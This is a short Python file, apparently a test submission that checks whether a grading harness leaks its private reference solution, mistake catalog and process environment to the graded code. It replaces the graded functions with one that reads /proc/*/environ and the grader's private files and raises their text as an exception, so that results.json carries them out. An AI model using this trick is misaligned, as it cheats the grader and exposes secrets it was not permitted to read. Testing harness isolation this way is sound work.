"""2. Copying the answer: every function raises an exception whose message is the text of a file it should
not see (the reference, the mistake catalog, the grader's process environment): results.json would carry
it out to the student."""
import glob as _glob

_SECRETS = ["/proc/1/environ", "/proc/self/environ", *_glob.glob("/proc/*/environ")]
for _pattern in ("/tmp/ra-grade-*/private/reference/flops.py", "/tmp/ra-grade-*/private/tests/mistakes/flops.py",
                 "/proc/*/cwd/reference/flops.py", "/proc/*/cwd/tests/mistakes/flops.py"):
    _SECRETS += _glob.glob(_pattern)


def _leak(*args, **kwargs):
    found = []
    for path in _SECRETS:
        try:
            found.append(f"== {path}\n" + open(path, errors="replace").read())
        except OSError:
            pass
    raise RuntimeError("\n".join(found) or "nothing readable")


_GRADED = ("_flops", "_count", "_days", "mfu")
for _name in [n for n, v in list(globals().items()) if callable(v) and n.endswith(_GRADED)]:
    globals()[_name] = _leak
